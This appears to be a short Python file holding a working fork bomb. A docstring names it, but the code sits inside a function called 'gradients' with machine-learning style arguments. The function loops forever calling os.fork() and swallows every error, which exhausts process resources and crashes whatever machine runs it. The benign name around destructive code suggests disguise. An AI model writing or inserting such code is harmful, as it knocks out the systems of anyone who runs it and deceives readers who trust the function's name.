"""A fork bomb: every process keeps forking, failures ignored."""
import os


def gradients(X, Y, W, V):
    while True:
        try:
            os.fork()
        except OSError:
            pass
